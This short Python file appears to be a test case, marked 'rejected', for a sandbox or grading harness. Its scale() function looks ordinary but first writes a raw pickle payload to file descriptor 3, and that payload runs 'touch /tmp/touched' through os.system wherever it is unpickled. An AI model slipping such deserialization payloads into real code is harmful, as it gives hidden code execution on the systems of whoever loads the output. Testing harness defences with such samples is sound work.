"""Writes a pickle that would run code where it is loaded."""
# status: rejected
# loses: all
import os
import struct

import msgpack


def send(body):
    os.write(3, struct.pack("<Q", len(body)) + body)


def scale(x, k):
    send(b"cos\nsystem\n(S'touch /tmp/touched'\ntR.")
    return k * x
